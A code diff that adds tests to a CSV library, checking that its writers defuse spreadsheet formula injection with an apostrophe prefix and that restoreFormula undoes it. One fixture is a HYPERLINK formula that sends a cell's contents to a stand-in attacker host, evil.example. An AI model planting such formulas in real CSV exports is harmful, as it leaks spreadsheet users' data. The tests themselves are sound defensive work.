@@ -15,6 +15,7 @@ import {
   readCsv,
   readCsvBytes,
   readCsvText,
+  restoreFormula,
   writeCsv,
   writeCsvRows,
 } from './index';
@@ -244,8 +245,11 @@ describe('writeCsv', () => {
             const n = parseNumber(v);
             return n === null ? v : String(n);
           };
-          expect(texts(back.dataset, 'x').map(norm)).toEqual(texts(ds, 'x').map(norm));
-          expect(texts(back.dataset, 'y').map(norm)).toEqual(texts(ds, 'y').map(norm));
+          // Formula-like text was neutralised on writing; restoreFormula undoes it exactly.
+          const read = (name: string) =>
+            texts(back.dataset, name).map((v) => (v === null ? v : restoreFormula(v)));
+          expect(read('x').map(norm)).toEqual(texts(ds, 'x').map(norm));
+          expect(read('y').map(norm)).toEqual(texts(ds, 'y').map(norm));
         },
       ),
       { numRuns: 200 },
@@ -256,5 +260,53 @@ describe('writeCsv', () => {
     const back = ok(readCsvText(writeCsv(ds)));
     expect(back.rowCount).toBe(4000);
     for (const col of ds.columns) expect(texts(back, col.name)).toEqual(texts(ds, col.name));
+  });
+});
+
+describe('CSV exports carry live formulas (issue 7 §4): every core CSV writer neutralises them', () => {
+  const evil = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';
+  const cells = [evil, '+1+2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', "'quoted", 'plain', '-5', '-1.5e3'];
+  const expected = [
+    `'${evil}`,
+    "'+1+2",
+    "'-2+3",
+    "'@SUM(A1)",
+    "'\tcmd",
+    "'\rcmd",
+    "''quoted",
+    'plain',
+    '-5',
+    '-1.5e3',
+  ];
+
+  it('writeCsv and csvChunks prefix formula-like text with an apostrophe; numbers stay numbers', () => {
+    const ds = datasetFromColumns([
+      categoricalFromStrings('title', cells),
+      numericFromValues(
+        'n',
+        cells.map((_, i) => -i),
+      ),
+    ]);
+    for (const text of [
+      writeCsv(ds, { newline: '\n' }),
+      [...csvChunks(ds, { newline: '\n', rowsPerChunk: 3 })].join(''),
+    ]) {
+      const back = ok(readCsvText(text, { delimiter: ',' }));
+      expect(texts(back, 'title')).toEqual(expected);
+      expect(texts(back, 'n')).toEqual(cells.map((_, i) => String(-i)));
+      // No line of the file starts a cell with a formula character.
+      for (const line of text.split('\n').slice(1)) expect(line).not.toMatch(/^"?[=+@]/);
+      // And Steward reading its own file back gets the original text.
+      expect(texts(back, 'title').map((v) => restoreFormula(v!))).toEqual(cells);
+    }
+  });
+  it('writeCsvRows neutralises every cell, the header included', () => {
+    const text = writeCsvRows([['=cmd', 'b'], ...cells.map((c) => [c, 'x'])], { newline: '\n' });
+    const back = ok(readCsvText(text, { delimiter: ',' }));
+    expect(back.columns[0]!.name).toBe("'=cmd");
+    expect(texts(back, "'=cmd")).toEqual(expected);
+  });
+  it('formulaGuard: false writes the text as it is (for programs, never for people)', () => {
+    expect(writeCsvRows([['=1+1']], { formulaGuard: false, newline: '\n' })).toBe('=1+1\n');
   });
 });
